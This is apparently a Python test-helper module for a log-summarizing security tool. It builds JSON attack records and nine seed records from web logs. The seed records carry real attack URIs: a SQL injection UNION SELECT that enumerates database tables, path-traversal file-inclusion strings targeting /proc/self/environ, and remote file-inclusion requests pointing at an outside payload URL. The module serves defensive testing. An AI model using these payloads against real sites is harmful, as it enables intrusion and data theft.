"""Helpers for the logwatch-summarize tests: attack records written as the
module and logwatch-scan write them (one JSON object per line), the seed's
nine records, and running the tool."""
import itertools
import json
import os
import subprocess

SEED_FORMAT = ('%v %h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i" '
               '%{UNIQUE_ID}e "%{X-Other}i"')


def builddir():
    return os.environ.get(
        "LW_BUILDDIR",
        os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..",
                     "build"))


def srcdir():
    return os.environ.get(
        "LW_SRCDIR",
        os.path.abspath(os.path.join(os.path.dirname(__file__), "..", "..")))


def tool(name):
    return os.path.join(builddir(), name)


_rids = itertools.count(1)


def record(time, client, vhost, uri, status, categories, ua=None, host="web1",
           tool_name=None, method="GET", rid=None, verdict=None,
           field="args:x", excerpt="x", severity="high"):
    """One attack record as a JSON line (no newline)."""
    r = {"time": time, "host": host, "vhost": vhost, "port": 80,
         "client": client, "method": method, "uri": uri,
         "protocol": "HTTP/1.1", "status": status, "bytes": 3506}
    if ua is not None:
        r["user_agent"] = ua
    # Every call is another request, with its own id as in a real log
    # (byte-identical lines are one record resent, counted once).
    r["request_id"] = rid if rid is not None else "req%08d" % next(_rids)
    r["verdict"] = verdict or verdict_of(status)
    r["severity"] = severity
    r["score"] = 5
    r["categories"] = list(categories)
    r["rules"] = [{"id": 100001, "category": categories[0] if categories
                   else "lfi", "severity": severity, "field": field,
                   "excerpt": excerpt, "msg": "test"}]
    if tool_name:
        r["tool"] = tool_name
    return json.dumps(r, separators=(",", ":"))


def verdict_of(status):
    if status in (401, 403, 406, 429):
        return "blocked"
    if status in (404, 410):
        return "not_found"
    if 400 <= status < 500:
        return "rejected"
    if 500 <= status < 600:
        return "error"
    if 300 <= status < 400:
        return "redirected"
    if 200 <= status < 300:
        return "served"
    return "unknown"


GECKO = ("Mozilla/5.0 (X11; U; Linux i686; cs-CZ; rv:1.7.12) "
         "Gecko/20050929")
LFI = ("../../../../../../../../../../../../../../../proc/self/environ%00")
RFI = "http://www.autoviacaomicaelense.pt/transportes/ckeditor/images/vero.txt?"


def seed_records():
    """The seed's nine requests as records (all status 500)."""
    t3a, t3b = "2011-06-22T13:46:16.000000-04:00", "2011-06-22T13:47:01.000000-04:00"
    return [
        record("2011-06-21T11:56:40.000000-04:00", "91.224.160.60",
               "domain1.com",
               "/contact/press_release_pop.php?id=-109+UNION+SELECT+1,2,3,4,"
               "CONCAT(0x6d7973716c6669,table_schema,0x3a,table_name,"
               "0x6d7973716c6669),6,7,8,9,1+FROM+INFORMATION_SCHEMA.TABLES+"
               "WHERE+table_name+LIKE+0x25757365726d65746125+limit+0,1--",
               500, ["sqli"], "Python-urllib/2.7", tool_name="Python-urllib",
               rid="TgC-OK3By8sACPOAAFA"),
        record("2011-06-22T01:46:14.000000-04:00", "221.157.225.69",
               "domain2.com",
               "/index.php?option=com_ckforms&view=ckforms&id=1&Itemid=81//"
               "index.php?option=com_ckforms&controller=../../../../../../../"
               "../../../../../..//proc/self/environ%0000", 500, ["lfi"],
               GECKO, rid="TgGBpq3By8sABmPYGQY"),
        record("2011-06-22T01:46:14.000000-04:00", "221.157.225.69",
               "domain2.com",
               "//index.php?option=com_ckforms&controller=../../../../../../"
               "../../../../../../..//proc/self/environ%0000", 500, ["lfi"],
               GECKO),
        record(t3a, "174.121.218.75", "domain3.com",
               "/home.php?pgi?pgi=" + LFI, 500, ["lfi"], "libwww-perl/6.02",
               tool_name="libwww-perl"),
        record(t3a, "174.121.218.75", "domain3.com",
               "/athletics/home.php?pgi?pgi=" + LFI, 500, ["lfi"],
               "libwww-perl/6.02", tool_name="libwww-perl"),
        record(t3a, "174.121.218.75", "domain3.com",
               "/hr/home.php?pgi?pgi=" + LFI, 500, ["lfi"],
               "libwww-perl/6.02", tool_name="libwww-perl"),
        record(t3b, "174.121.218.75", "domain3.com",
               "/home.php?pgi?pgi=" + RFI, 500, ["rfi"], "libwww-perl/6.02",
               tool_name="libwww-perl"),
        record(t3b, "174.121.218.75", "domain3.com",
               "/athletics/home.php?pgi?pgi=" + RFI, 500, ["rfi"],
               "libwww-perl/6.02", tool_name="libwww-perl"),
        record(t3b, "174.121.218.75", "domain3.com",
               "/hr/home.php?pgi?pgi=" + RFI, 500, ["rfi"],
               "libwww-perl/6.02", tool_name="libwww-perl"),
    ]


def write_lines(path, lines):
    with open(path, "w", encoding="ascii", newline="") as f:
        for line in lines:
            f.write(line + "\n")
    return path


def summarize(args, stdin=None, timeout=60, env=None):
    """Run logwatch-summarize; returns the CompletedProcess (bytes)."""
    e = dict(os.environ)
    e.setdefault("TZ", "UTC")
    if env:
        e.update(env)
    return subprocess.run([tool("logwatch-summarize")] + list(args),
                          input=stdin, stdout=subprocess.PIPE,
                          stderr=subprocess.PIPE, timeout=timeout, env=e)
